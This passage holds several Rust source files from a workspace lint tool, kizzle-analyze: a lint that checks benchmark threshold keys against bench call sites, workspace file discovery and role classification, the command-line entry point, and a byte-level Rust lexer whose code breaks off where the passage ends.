//!   the gate would fail every CI run, or worse, the arm was renamed
//!   and its protection silently moved to "missing bench" noise.
//! * **Ungated arm** (warning): a bench emitter whose full name has no
//!   thresholds entry — deliberate for comparison baselines (allowlist
//!   them with the reason), an oversight for product paths.
//!
//! Bench names are assembled at runtime as `group/function/parameter`,
//! so the matcher works on the literals that exist statically: a key is
//! covered when it can be split into consecutive `/`-separated pieces
//! that each appear as a string literal in the bench sources, with at
//! most the final segment dynamic (a `BenchmarkId` parameter) once at
//! least two literal pieces matched. Emitters are reconstructed from
//! `benchmark_group("…")` + `bench_function`/`bench_with_input` call
//! sites; groups bound to non-literal names are skipped (statically
//! unresolvable, and the runtime gate still covers them).

use crate::lint::{Finding, Severity};
use crate::lints::finding_at;
use crate::workspace::{Role, Workspace};
use std::collections::BTreeSet;
use std::fs;

const LINT: &str = "threshold-drift";
const THRESHOLDS_PATH: &str = "crates/bench/thresholds.json";

pub fn run(ws: &Workspace, out: &mut Vec<Finding>) {
    let path = ws.root.join(THRESHOLDS_PATH);
    let text = match fs::read_to_string(&path) {
        Ok(text) => text,
        Err(err) => {
            out.push(Finding {
                lint: LINT,
                severity: Severity::Error,
                path: THRESHOLDS_PATH.into(),
                line: 0,
                col: 0,
                message: format!("cannot read thresholds file: {err}"),
                excerpt: String::new(),
            });
            return;
        }
    };
    let keys = match parse_object_keys(&text) {
        Ok(keys) => keys,
        Err(msg) => {
            out.push(Finding {
                lint: LINT,
                severity: Severity::Error,
                path: THRESHOLDS_PATH.into(),
                line: 0,
                col: 0,
                message: format!("thresholds file is not a flat JSON object: {msg}"),
                excerpt: String::new(),
            });
            return;
        }
    };

    // Every string literal in the bench sources, the pool arm names are
    // assembled from.
    let mut literals: BTreeSet<String> = BTreeSet::new();
    for file in &ws.files {
        if file.role != Role::Bench || file.vendored {
            continue;
        }
        for i in file.code_token_indices() {
            if let Some(value) = file.tokens[i].str_value(&file.bytes) {
                literals.insert(value);
            }
        }
    }

    // Direction 1: every gated arm must have an emitter.
    for (key, line) in &keys {
        if key.starts_with('_') {
            continue; // `_comment` and friends.
        }
        if !covered(key, &literals, 0) {
            out.push(Finding {
                lint: LINT,
                severity: Severity::Error,
                path: THRESHOLDS_PATH.into(),
                line: *line,
                col: 1,
                message: format!(
                    "gated arm \"{key}\" has no emitter in crates/bench/benches — \
                     the perf gate would report it missing on every run"
                ),
                excerpt: format!("\"{key}\""),
            });
        }
    }

    // Direction 2: every statically-resolvable bench arm should be gated.
    let key_names: BTreeSet<&str> = keys.iter().map(|(k, _)| k.as_str()).collect();
    for file in &ws.files {
        if file.role != Role::Bench || file.vendored {
            continue;
        }
        let mut group: Option<String> = None;
        for i in file.code_token_indices() {
            let text = file.token_text(i);
            if text == b"benchmark_group" {
                // `benchmark_group` `(` <literal?> — a non-literal group
                // makes later arms unresolvable: clear it.
                group = file
                    .next_code(i)
                    .filter(|&p| file.token_text(p) == b"(")
                    .and_then(|p| file.next_code(p))
                    .and_then(|l| file.tokens[l].str_value(&file.bytes));
            } else if text == b"bench_function" || text == b"bench_with_input" {
                let Some(open) = file.next_code(i).filter(|&p| file.token_text(p) == b"(") else {
                    continue;
                };
                let Some(arg) = file.next_code(open) else {
                    continue;
                };
                // Either a direct `"id"` literal or `BenchmarkId::new("id", param)`.
                let id_idx = if file.token_text(arg) == b"BenchmarkId" {
                    let mut j = arg;
                    let mut found = None;
                    for _ in 0..6 {
                        let Some(n) = file.next_code(j) else { break };
                        if file.tokens[n].str_value(&file.bytes).is_some() {
                            found = Some(n);
                            break;
                        }
                        j = n;
                    }
                    found
                } else {
                    Some(arg)
                };
                let Some(id_idx) = id_idx else { continue };
                let Some(id) = file.tokens[id_idx].str_value(&file.bytes) else {
                    continue;
                };
                let Some(g) = &group else { continue };
                let name = format!("{g}/{id}");
                let gated = key_names
                    .iter()
                    .any(|k| *k == name || k.starts_with(&format!("{name}/")));
                if !gated {
                    out.push(finding_at(
                        LINT,
                        Severity::Warn,
                        file,
                        file.tokens[id_idx].start,
                        format!(
                            "bench arm \"{name}\" has no {THRESHOLDS_PATH} gate — gate it, \
                             or allowlist it as a deliberate comparison baseline"
                        ),
                    ));
                }
            }
        }
    }
}

/// Whether `key` can be assembled from bench string literals:
/// consecutive `/`-joined literal pieces, plus at most one dynamic
/// final segment once two literal pieces (e.g. group + function id)
/// have matched. A literal containing `format!` placeholders
/// (`"miss_{label}"`) matches with each `{…}` acting as a wildcard
/// within one segment.
fn covered(key: &str, literals: &BTreeSet<String>, depth: usize) -> bool {
    if literals.iter().any(|l| piece_matches(l, key)) {
        return true;
    }
    // Dynamic final segment: no `/` left, and group+id already matched.
    if depth >= 2 && !key.contains('/') {
        return true;
    }
    let mut split_at = 0;
    while let Some(pos) = key[split_at..].find('/') {
        let boundary = split_at + pos;
        let (head, tail) = (&key[..boundary], &key[boundary + 1..]);
        if literals.iter().any(|l| piece_matches(l, head)) && covered(tail, literals, depth + 1) {
            return true;
        }
        split_at = boundary + 1;
    }
    false
}

/// Exact match, or `format!`-template match when the literal carries
/// `{…}` placeholders (each placeholder spans any run of non-`/` bytes).
fn piece_matches(literal: &str, part: &str) -> bool {
    if !literal.contains('{') {
        return literal == part;
    }
    glob_match(literal.as_bytes(), part.as_bytes())
}

fn glob_match(template: &[u8], s: &[u8]) -> bool {
    let Some(&t0) = template.first() else {
        return s.is_empty();
    };
    if t0 == b'{' {
        let rest = match template.iter().position(|&b| b == b'}') {
            Some(close) => &template[close + 1..],
            None => b"",
        };
        for k in 0..=s.len() {
            if k > 0 && s[k - 1] == b'/' {
                break;
            }
            if glob_match(rest, &s[k..]) {
                return true;
            }
        }
        return false;
    }
    !s.is_empty() && s[0] == t0 && glob_match(&template[1..], &s[1..])
}

/// Minimal JSON parser for a flat object: returns `(key, 1-based line)`
/// per member. Values (numbers, strings, booleans, nested containers)
/// are skipped structurally.
fn parse_object_keys(text: &str) -> Result<Vec<(String, u32)>, String> {
    let bytes = text.as_bytes();
    let mut i = 0;
    let mut line: u32 = 1;
    let mut keys = Vec::new();

    macro_rules! skip_ws {
        () => {
            while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                if bytes[i] == b'\n' {
                    line += 1;
                }
                i += 1;
            }
        };
    }

    fn parse_string(bytes: &[u8], i: &mut usize) -> Result<String, String> {
        if bytes.get(*i) != Some(&b'"') {
            return Err("expected string".into());
        }
        *i += 1;
        let start = *i;
        while *i < bytes.len() {
            match bytes[*i] {
                b'\\' => *i += 2,
                b'"' => {
                    let s = String::from_utf8_lossy(&bytes[start..*i]).into_owned();
                    *i += 1;
                    return Ok(s);
                }
                _ => *i += 1,
            }
        }
        Err("unterminated string".into())
    }

    // Skip any non-container scalar or balanced container.
    fn skip_value(bytes: &[u8], i: &mut usize, line: &mut u32) -> Result<(), String> {
        match bytes.get(*i) {
            Some(b'"') => parse_string(bytes, i).map(|_| ()),
            Some(b'{' | b'[') => {
                let mut depth = 0usize;
                while *i < bytes.len() {
                    match bytes[*i] {
                        b'"' => {
                            parse_string(bytes, i)?;
                            continue;
                        }
                        b'{' | b'[' => depth += 1,
                        b'}' | b']' => {
                            depth -= 1;
                            if depth == 0 {
                                *i += 1;
                                return Ok(());
                            }
                        }
                        b'\n' => *line += 1,
                        _ => {}
                    }
                    *i += 1;
                }
                Err("unterminated container".into())
            }
            Some(_) => {
                while *i < bytes.len() && !matches!(bytes[*i], b',' | b'}' | b']') {
                    if bytes[*i] == b'\n' {
                        *line += 1;
                    }
                    *i += 1;
                }
                Ok(())
            }
            None => Err("unexpected end of input".into()),
        }
    }

    skip_ws!();
    if bytes.get(i) != Some(&b'{') {
        return Err("expected top-level object".into());
    }
    i += 1;
    loop {
        skip_ws!();
        match bytes.get(i) {
            Some(b'}') => return Ok(keys),
            Some(b'"') => {
                let key_line = line;
                let key = parse_string(bytes, &mut i)?;
                skip_ws!();
                if bytes.get(i) != Some(&b':') {
                    return Err(format!("expected `:` after key {key:?}"));
                }
                i += 1;
                skip_ws!();
                skip_value(bytes, &mut i, &mut line)?;
                keys.push((key, key_line));
                skip_ws!();
                if bytes.get(i) == Some(&b',') {
                    i += 1;
                }
            }
            _ => return Err("expected `\"key\"` or `}`".into()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn object_keys_with_lines() {
        let keys =
            parse_object_keys("{\n  \"_c\": \"x,y}\",\n  \"a/b/1\": 10,\n  \"z\": 2\n}").unwrap();
        assert_eq!(
            keys,
            vec![("_c".into(), 2), ("a/b/1".into(), 3), ("z".into(), 4)]
        );
    }

    #[test]
    fn coverage_rules() {
        let lits: BTreeSet<String> = [
            "clustering",
            "indexed",
            "miss_500_sigs/anchored",
            "full/name/arm",
            "signature_scan",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        // group + id + dynamic param
        assert!(covered("clustering/indexed/250", &lits, 0));
        // group + slash-containing id literal
        assert!(covered("signature_scan/miss_500_sigs/anchored", &lits, 0));
        // whole-name literal (manual KIZZLE_BENCH_OUT emitters)
        assert!(covered("full/name/arm", &lits, 0));
        // group alone does not cover an unknown id
        assert!(!covered("clustering/bogus", &lits, 0));
        assert!(!covered("unknown/indexed/250", &lits, 0));
    }

    #[test]
    fn format_templates_act_as_wildcards() {
        let lits: BTreeSet<String> = [
            "signature_scan",
            "miss_{label}",
            "anchored",
            "matcher_throughput",
            "parallel_scan_{workers}x{per_worker}",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        assert!(covered("signature_scan/miss_50k_sigs/anchored", &lits, 0));
        assert!(covered("matcher_throughput/parallel_scan_4x64", &lits, 0));
        // A placeholder never crosses a `/` segment boundary.
        assert!(!covered("signature_scan/miss_a/b/anchored/extra", &lits, 0));
        assert!(!piece_matches("miss_{label}", "miss_x/y"));
    }
}
