//! Workspace discovery: find every Rust source file under the repo
//! root, classify it (which crate, which target role), lex it once, and
//! precompute the byte ranges that belong to test code.
//!
//! The walker is path-convention based rather than manifest-driven: the
//! workspace's layout is uniform (`crates/*/src`, `crates/*/tests`,
//! `vendor/*`, a root umbrella package), and a convention walker keeps
//! working when a manifest is mid-edit — the analyzer must be able to
//! explain a broken tree, not fall over with it.

use crate::lexer::{self, Token, TokenKind};
use std::fs;
use std::io;
use std::ops::Range;
use std::path::{Path, PathBuf};

/// Which compilation target a source file belongs to. Lints scope
/// themselves by role: `panic-path` only visits `Lib`, `threshold-drift`
/// only visits `Bench`, and so on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// Library code under `src/` — the surface the lints defend.
    Lib,
    /// `src/bin/*` binaries (CLI shells; panics are user-facing exits).
    Bin,
    /// Integration tests under `tests/`.
    Test,
    /// Benchmarks under `benches/`.
    Bench,
    /// Examples under `examples/`.
    Example,
}

/// One lexed source file.
pub struct SourceFile {
    /// Path relative to the workspace root, with `/` separators.
    pub rel_path: String,
    /// The crate directory name (`core`, `cluster`, `analysis`, …);
    /// `kizzle-sim` for the root umbrella package.
    pub crate_name: String,
    /// Whether the file lives under `vendor/`.
    pub vendored: bool,
    pub role: Role,
    pub bytes: Vec<u8>,
    pub tokens: Vec<Token>,
    /// Byte offset of the start of each line, for diagnostics.
    line_starts: Vec<usize>,
    /// Byte ranges covered by `#[cfg(test)]` items and `#[test]`
    /// functions; lints that exempt test code consult these.
    test_regions: Vec<Range<usize>>,
}

impl SourceFile {
    /// 1-based (line, column) of a byte offset.
    #[must_use]
    pub fn line_col(&self, offset: usize) -> (u32, u32) {
        let line = match self.line_starts.binary_search(&offset) {
            Ok(idx) => idx + 1,
            Err(idx) => idx,
        };
        let line_start = self.line_starts[line - 1];
        (line as u32, (offset - line_start) as u32 + 1)
    }

    /// The full text of the line containing `offset`, for excerpts.
    #[must_use]
    pub fn line_text(&self, offset: usize) -> String {
        let (line, _) = self.line_col(offset);
        let start = self.line_starts[line as usize - 1];
        let end = self
            .line_starts
            .get(line as usize)
            .copied()
            .unwrap_or(self.bytes.len());
        String::from_utf8_lossy(&self.bytes[start..end])
            .trim_end()
            .to_string()
    }

    /// Whether a byte offset falls inside test code.
    #[must_use]
    pub fn in_test_region(&self, offset: usize) -> bool {
        self.test_regions
            .iter()
            .any(|r| r.start <= offset && offset < r.end)
    }

    /// Iterator over indices of code tokens (skipping whitespace and
    /// comments), the granularity every lint pattern-matches at.
    pub fn code_token_indices(&self) -> impl Iterator<Item = usize> + '_ {
        (0..self.tokens.len()).filter(|&i| self.tokens[i].is_code())
    }

    /// The next code token strictly after index `i`, if any.
    #[must_use]
    pub fn next_code(&self, i: usize) -> Option<usize> {
        ((i + 1)..self.tokens.len()).find(|&j| self.tokens[j].is_code())
    }

    /// The previous code token strictly before index `i`, if any.
    #[must_use]
    pub fn prev_code(&self, i: usize) -> Option<usize> {
        (0..i).rev().find(|&j| self.tokens[j].is_code())
    }

    /// The text of token `i`.
    #[must_use]
    pub fn token_text(&self, i: usize) -> &[u8] {
        self.tokens[i].text(&self.bytes)
    }
}

/// The lexed workspace a lint run operates on.
pub struct Workspace {
    pub root: PathBuf,
    pub files: Vec<SourceFile>,
}

impl Workspace {
    /// Walk and lex the workspace rooted at `root`.
    pub fn load(root: &Path) -> io::Result<Workspace> {
        let mut files = Vec::new();
        let mut rs_paths = Vec::new();
        collect_rs_files(root, &mut rs_paths)?;
        rs_paths.sort();
        for path in rs_paths {
            let rel = path
                .strip_prefix(root)
                .unwrap_or(&path)
                .to_string_lossy()
                .replace('\\', "/");
            let Some((crate_name, vendored, role)) = classify(&rel) else {
                continue;
            };
            let bytes = fs::read(&path)?;
            let tokens = lexer::lex(&bytes);
            let line_starts = compute_line_starts(&bytes);
            let test_regions = find_test_regions(&bytes, &tokens);
            files.push(SourceFile {
                rel_path: rel,
                crate_name,
                vendored,
                role,
                bytes,
                tokens,
                line_starts,
                test_regions,
            });
        }
        Ok(Workspace {
            root: root.to_path_buf(),
            files,
        })
    }

    /// Find the workspace root by walking up from `start` to the first
    /// directory whose `Cargo.toml` declares `[workspace]`.
    #[must_use]
    pub fn find_root(start: &Path) -> Option<PathBuf> {
        let mut dir = Some(start);
        while let Some(d) = dir {
            let manifest = d.join("Cargo.toml");
            if let Ok(text) = fs::read_to_string(&manifest) {
                if text.contains("[workspace]") {
                    return Some(d.to_path_buf());
                }
            }
            dir = d.parent();
        }
        None
    }
}

fn collect_rs_files(dir: &Path, out: &mut Vec<PathBuf>) -> io::Result<()> {
    for entry in fs::read_dir(dir)? {
        let entry = entry?;
        let path = entry.path();
        let name = entry.file_name();
        let name = name.to_string_lossy();
        if path.is_dir() {
            // Skip build output, VCS state, and the analyzer's own
            // fixture sandboxes.
            if name == "target" || name.starts_with('.') {
                continue;
            }
            collect_rs_files(&path, out)?;
        } else if name.ends_with(".rs") {
            out.push(path);
        }
    }
    Ok(())
}

/// Map a workspace-relative path to (crate name, vendored, role).
/// Returns `None` for files outside any recognized target layout.
fn classify(rel: &str) -> Option<(String, bool, Role)> {
    let parts: Vec<&str> = rel.split('/').collect();
    let (crate_name, vendored, rest): (String, bool, &[&str]) = match parts.first()? {
        &"crates" | &"vendor" => {
            let vendored = parts[0] == "vendor";
            (parts.get(1)?.to_string(), vendored, parts.get(2..)?)
        }
        _ => ("kizzle-sim".to_string(), false, &parts[..]),
    };
    let role = match *rest.first()? {
        "src" => {
            if rest.get(1) == Some(&"bin") {
                Role::Bin
            } else {
                Role::Lib
            }
        }
        "tests" => Role::Test,
        "benches" => Role::Bench,
        "examples" => Role::Example,
        _ => return None,
    };
    Some((crate_name, vendored, role))
}

fn compute_line_starts(bytes: &[u8]) -> Vec<usize> {
    let mut starts = vec![0];
    for (i, &b) in bytes.iter().enumerate() {
        if b == b'\n' {
            starts.push(i + 1);
        }
    }
    starts
}

/// Locate test code: any attribute that mentions `test` (and not
/// `not(test)`) claims the item that follows it — to the matching close
/// brace of its body, or to the terminating semicolon for brace-less
/// items. This catches `#[test]` functions, `#[cfg(test)] mod tests`,
/// and `#[cfg(all(test, …))]` blocks without parsing items.
fn find_test_regions(bytes: &[u8], tokens: &[Token]) -> Vec<Range<usize>> {
    let mut regions: Vec<Range<usize>> = Vec::new();
    let code: Vec<usize> = (0..tokens.len()).filter(|&i| tokens[i].is_code()).collect();
    let mut ci = 0;
    while ci < code.len() {
        let ti = code[ci];
        if tokens[ti].text(bytes) != b"#" {
            ci += 1;
            continue;
        }
        // `#` `[` … `]` — collect the attribute's identifier set.
        let Some(&open) = code.get(ci + 1) else { break };
        if tokens[open].text(bytes) != b"[" {
            ci += 1;
            continue;
        }
        let mut depth = 0usize;
        let mut mentions_test = false;
        let mut mentions_not = false;
        let mut cj = ci + 1;
        while cj < code.len() {
            let t = code[cj];
            match tokens[t].text(bytes) {
                b"[" => depth += 1,
                b"]" => {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                b"test" if tokens[t].kind == TokenKind::Ident => mentions_test = true,
                b"not" if tokens[t].kind == TokenKind::Ident => mentions_not = true,
                _ => {}
            }
            cj += 1;
        }
        if !mentions_test || mentions_not {
            ci = cj + 1;
            continue;
        }
        // The attribute is a test marker: claim through the item body.
        let region_start = tokens[ti].start;
        let mut brace_depth = 0usize;
        let mut ck = cj + 1;
        let mut region_end = bytes.len();
        while ck < code.len() {
            let t = code[ck];
            match tokens[t].text(bytes) {
                b"{" => brace_depth += 1,
                b"}" => {
                    brace_depth = brace_depth.saturating_sub(1);
                    if brace_depth == 0 {
                        region_end = tokens[t].end;
                        break;
                    }
                }
                b";" if brace_depth == 0 => {
                    region_end = tokens[t].end;
                    break;
                }
                _ => {}
            }
            ck += 1;
        }
        regions.push(region_start..region_end);
        ci = ck + 1;
    }
    regions
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file_from(src: &str) -> SourceFile {
        let bytes = src.as_bytes().to_vec();
        let tokens = lexer::lex(&bytes);
        let line_starts = compute_line_starts(&bytes);
        let test_regions = find_test_regions(&bytes, &tokens);
        SourceFile {
            rel_path: "crates/demo/src/lib.rs".into(),
            crate_name: "demo".into(),
            vendored: false,
            role: Role::Lib,
            bytes,
            tokens,
            line_starts,
            test_regions,
        }
    }

    #[test]
    fn cfg_test_mod_is_a_test_region() {
        let src = "fn live() {}\n#[cfg(test)]\nmod tests {\n    fn t() { x.unwrap(); }\n}\nfn after() {}\n";
        let f = file_from(src);
        let unwrap_at = src.find("unwrap").unwrap();
        assert!(f.in_test_region(unwrap_at));
        assert!(!f.in_test_region(src.find("live").unwrap()));
        assert!(!f.in_test_region(src.find("after").unwrap()));
    }

    #[test]
    fn test_fn_and_cfg_all_are_test_regions_but_not_cfg_not_test() {
        let src = "#[test]\nfn a() { inner(); }\n#[cfg(all(test, feature = \"x\"))]\nfn b() {}\n#[cfg(not(test))]\nfn live() {}\n";
        let f = file_from(src);
        assert!(f.in_test_region(src.find("inner").unwrap()));
        assert!(f.in_test_region(src.find("fn b").unwrap()));
        assert!(!f.in_test_region(src.find("live").unwrap()));
    }

    #[test]
    fn braces_inside_strings_do_not_unbalance_regions() {
        let src = "#[cfg(test)]\nmod tests {\n    const S: &str = \"}\";\n    fn t() { probe(); }\n}\nfn live() {}\n";
        let f = file_from(src);
        assert!(f.in_test_region(src.find("probe").unwrap()));
        assert!(!f.in_test_region(src.find("live").unwrap()));
    }

    #[test]
    fn classify_assigns_roles() {
        assert_eq!(
            classify("crates/core/src/lib.rs"),
            Some(("core".into(), false, Role::Lib))
        );
        assert_eq!(
            classify("crates/serve/src/bin/kizzle-serve.rs"),
            Some(("serve".into(), false, Role::Bin))
        );
        assert_eq!(
            classify("crates/bench/benches/x.rs"),
            Some(("bench".into(), false, Role::Bench))
        );
        assert_eq!(
            classify("vendor/rayon/src/lib.rs"),
            Some(("rayon".into(), true, Role::Lib))
        );
        assert_eq!(
            classify("src/lib.rs"),
            Some(("kizzle-sim".into(), false, Role::Lib))
        );
        assert_eq!(
            classify("examples/quickstart.rs"),
            Some(("kizzle-sim".into(), false, Role::Example))
        );
        assert_eq!(classify("docs/snippet.rs"), None);
    }

    #[test]
    fn line_col_is_one_based() {
        let f = file_from("ab\ncd\n");
        assert_eq!(f.line_col(0), (1, 1));
        assert_eq!(f.line_col(3), (2, 1));
        assert_eq!(f.line_col(4), (2, 2));
        assert_eq!(f.line_text(4), "cd");
    }
}
