//! `kizzle-analyze` — run the workspace lints.
//!
//! ```text
//! kizzle-analyze [--root DIR] [--allow FILE] [--deny-all]
//!                [--lint NAME]… [--report FILE] [--list-lints]
//! ```
//!
//! * `--root DIR` — workspace root (default: walk up from the current
//!   directory to the first `Cargo.toml` declaring `[workspace]`).
//! * `--allow FILE` — allowlist (default: `<root>/analysis/allow.toml`).
//! * `--deny-all` — CI mode: warnings fail the run too.
//! * `--lint NAME` — run only the named lint(s); repeatable.
//! * `--report FILE` — additionally write the report to FILE (uploaded
//!   as a CI artifact on failure).
//! * `--list-lints` — print the lint catalog and exit.
//!
//! Exit status: 0 clean, 1 findings, 2 usage or I/O error.

use std::path::PathBuf;
use std::process::ExitCode;

fn main() -> ExitCode {
    let mut root: Option<PathBuf> = None;
    let mut allow: Option<PathBuf> = None;
    let mut report_path: Option<PathBuf> = None;
    let mut deny_all = false;
    let mut lint_filter: Vec<String> = Vec::new();

    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--root" => root = args.next().map(PathBuf::from),
            "--allow" => allow = args.next().map(PathBuf::from),
            "--report" => report_path = args.next().map(PathBuf::from),
            "--deny-all" => deny_all = true,
            "--lint" => match args.next() {
                Some(name) => lint_filter.push(name),
                None => return usage("--lint needs a lint name"),
            },
            "--list-lints" => {
                for lint in kizzle_analyze::all_lints() {
                    println!("{:<22} {}", lint.name, lint.description);
                }
                return ExitCode::SUCCESS;
            }
            "--help" | "-h" => {
                println!(
                    "kizzle-analyze [--root DIR] [--allow FILE] [--deny-all] \
                     [--lint NAME]... [--report FILE] [--list-lints]"
                );
                return ExitCode::SUCCESS;
            }
            other => return usage(&format!("unknown argument: {other}")),
        }
    }

    let known: Vec<&str> = kizzle_analyze::all_lints().iter().map(|l| l.name).collect();
    for name in &lint_filter {
        if !known.contains(&name.as_str()) {
            return usage(&format!(
                "unknown lint `{name}` (known: {})",
                known.join(", ")
            ));
        }
    }

    let root = match root {
        Some(r) => r,
        None => {
            let cwd = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
            match kizzle_analyze::workspace::Workspace::find_root(&cwd) {
                Some(r) => r,
                None => return usage("no workspace root found; pass --root"),
            }
        }
    };
    let allow = allow.unwrap_or_else(|| root.join("analysis/allow.toml"));

    let report = match kizzle_analyze::run(&root, &allow, &lint_filter) {
        Ok(report) => report,
        Err(err) => {
            eprintln!("kizzle-analyze: {err}");
            return ExitCode::from(2);
        }
    };

    let rendered = report.render();
    print!("{rendered}");
    if let Some(path) = &report_path {
        if let Err(err) = std::fs::write(path, &rendered) {
            eprintln!(
                "kizzle-analyze: cannot write report to {}: {err}",
                path.display()
            );
            return ExitCode::from(2);
        }
    }

    if report.failed(deny_all) {
        ExitCode::FAILURE
    } else {
        ExitCode::SUCCESS
    }
}

fn usage(message: &str) -> ExitCode {
    eprintln!("kizzle-analyze: {message}");
    eprintln!("usage: kizzle-analyze [--root DIR] [--allow FILE] [--deny-all] [--lint NAME]... [--report FILE] [--list-lints]");
    ExitCode::from(2)
}
