//! A hand-rolled, total Rust token scanner over raw bytes.
//!
//! This is not a compiler front end: it produces exactly the token
//! granularity the lints need — *which bytes are code, which are
//! comments, and where the string literals are* — while getting the
//! genuinely tricky parts of Rust's lexical grammar right:
//!
//! * raw strings with arbitrary hash fences (`r#"…"#`, `br##"…"##`,
//!   `cr"…"`), which may contain quotes and `//` sequences;
//! * nested block comments (`/* /* */ */`), which plain scanners
//!   unbalance;
//! * the lifetime/char-literal ambiguity (`'a` vs `'a'` vs `'\n'`);
//! * raw identifiers (`r#type`) vs raw strings (`r#"…"#`).
//!
//! The scanner is **total**: any byte sequence — including invalid
//! UTF-8 and truncated literals — lexes to a token stream whose spans
//! are contiguous, in-bounds, and reconstruct the input exactly. That
//! property is what lets the lints run on arbitrary working trees
//! without a panic path of their own (it is property-tested in
//! `tests/lexer_properties.rs`).

/// The classes of token the lints care about.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TokenKind {
    /// Spaces, tabs, newlines.
    Whitespace,
    /// `// …` to end of line (includes `///` and `//!` doc comments —
    /// doc text, and therefore doctest code, is *not* library code).
    LineComment,
    /// `/* … */`, nested; an unterminated comment runs to end of input.
    BlockComment,
    /// Any string literal: `"…"`, `b"…"`, `c"…"`, and the raw forms
    /// `r"…"`, `r#"…"#`, `br#"…"#`, `cr#"…"#` with any fence width.
    Str,
    /// A character or byte-character literal: `'x'`, `b'\n'`.
    Char,
    /// A lifetime: `'a`, `'static`.
    Lifetime,
    /// An identifier or keyword, including raw identifiers (`r#type`).
    /// Bytes ≥ 0x80 are treated as identifier characters, which groups
    /// non-ASCII identifiers (and stray binary runs) into single tokens.
    Ident,
    /// A numeric literal (integer or float, any base, with suffix).
    Number,
    /// A single punctuation byte. Multi-byte operators (`::`, `->`)
    /// appear as consecutive `Punct` tokens.
    Punct,
    /// Any other byte (control bytes outside literals).
    Unknown,
}

/// One token: a classification of the byte range `start..end`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Token {
    pub kind: TokenKind,
    pub start: usize,
    pub end: usize,
}

impl Token {
    /// The token's bytes within `src` (the same slice it was lexed from).
    #[must_use]
    pub fn text<'a>(&self, src: &'a [u8]) -> &'a [u8] {
        &src[self.start..self.end]
    }

    /// Whether the token is code rather than whitespace or a comment.
    #[must_use]
    pub fn is_code(&self) -> bool {
        !matches!(
            self.kind,
            TokenKind::Whitespace | TokenKind::LineComment | TokenKind::BlockComment
        )
    }

    /// For a `Str` token, the literal's content with prefix, fences and
    /// quotes stripped and (for non-raw strings) simple escapes decoded.
    /// Returns `None` for other kinds or unterminated literals whose
    /// shape cannot be recovered.
    #[must_use]
    pub fn str_value(&self, src: &[u8]) -> Option<String> {
        if self.kind != TokenKind::Str {
            return None;
        }
        let text = self.text(src);
        let mut i = 0;
        // Skip the b/c/r prefix letters.
        while i < text.len() && (text[i] == b'b' || text[i] == b'c' || text[i] == b'r') {
            i += 1;
        }
        let raw = text[..i].contains(&b'r');
        let mut fence = 0;
        while i < text.len() && text[i] == b'#' {
            fence += 1;
            i += 1;
        }
        if i >= text.len() || text[i] != b'"' {
            return None;
        }
        i += 1;
        // Trim the closing quote + fence if the literal is terminated.
        let close = if raw { fence + 1 } else { 1 };
        let end = if text.len() >= i + close && text[text.len() - close] == b'"' {
            text.len() - close
        } else {
            text.len()
        };
        let body = &text[i..end];
        let decoded = if raw {
            body.to_vec()
        } else {
            let mut out = Vec::with_capacity(body.len());
            let mut j = 0;
            while j < body.len() {
                if body[j] == b'\\' && j + 1 < body.len() {
                    out.push(match body[j + 1] {
                        b'n' => b'\n',
                        b't' => b'\t',
                        b'r' => b'\r',
                        b'0' => 0,
                        other => other,
                    });
                    j += 2;
                } else {
                    out.push(body[j]);
                    j += 1;
                }
            }
            out
        };
        Some(String::from_utf8_lossy(&decoded).into_owned())
    }
}

fn is_ident_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_' || b >= 0x80
}

fn is_ident_continue(b: u8) -> bool {
    is_ident_start(b) || b.is_ascii_digit()
}

/// Lex `src` completely. Never panics; the returned spans are
/// contiguous, start at 0, and end at `src.len()`.
#[must_use]
pub fn lex(src: &[u8]) -> Vec<Token> {
    let mut tokens = Vec::new();
    let mut i = 0;
    while i < src.len() {
        let start = i;
        let b = src[i];
        let kind = if b.is_ascii_whitespace() {
            while i < src.len() && src[i].is_ascii_whitespace() {
                i += 1;
            }
            TokenKind::Whitespace
        } else if b == b'/' && src.get(i + 1) == Some(&b'/') {
            while i < src.len() && src[i] != b'\n' {
                i += 1;
            }
            TokenKind::LineComment
        } else if b == b'/' && src.get(i + 1) == Some(&b'*') {
            i += 2;
            let mut depth = 1usize;
            while i < src.len() && depth > 0 {
                if src[i] == b'/' && src.get(i + 1) == Some(&b'*') {
                    depth += 1;
                    i += 2;
                } else if src[i] == b'*' && src.get(i + 1) == Some(&b'/') {
                    depth -= 1;
                    i += 2;
                } else {
                    i += 1;
                }
            }
            TokenKind::BlockComment
        } else if b == b'"' {
            i = lex_string_body(src, i + 1);
            TokenKind::Str
        } else if let Some(end) = try_lex_prefixed_literal(src, i) {
            i = end.0;
            end.1
        } else if b == b'\'' {
            let (end, kind) = lex_quote(src, i);
            i = end;
            kind
        } else if is_ident_start(b) {
            while i < src.len() && is_ident_continue(src[i]) {
                i += 1;
            }
            TokenKind::Ident
        } else if b.is_ascii_digit() {
            i = lex_number(src, i);
            TokenKind::Number
        } else if b.is_ascii_punctuation() {
            i += 1;
            TokenKind::Punct
        } else {
            i += 1;
            TokenKind::Unknown
        };
        tokens.push(Token {
            kind,
            start,
            end: i,
        });
    }
    tokens
}

/// From a position *after* an opening `"`, consume to just past the
/// closing quote (backslash escapes the next byte), or to end of input.
fn lex_string_body(src: &[u8], mut i: usize) -> usize {
    while i < src.len() {
        match src[i] {
            b'\\' => i += 2,
            b'"' => return i + 1,
            _ => i += 1,
        }
    }
    src.len()
}

/// Try to lex a `b`/`c`/`r`-prefixed literal (raw string, byte string,
/// byte char, raw identifier) starting at `i`. Returns the end offset
/// and kind, or `None` when the bytes at `i` are a plain identifier.
fn try_lex_prefixed_literal(src: &[u8], i: usize) -> Option<(usize, TokenKind)> {
    let b = src[i];
    if b != b'b' && b != b'c' && b != b'r' {
        return None;
    }
    // Longest prefix of b/c/r letters that is immediately followed by a
    // quote or hash fence; everything else is an ordinary identifier.
    let mut j = i;
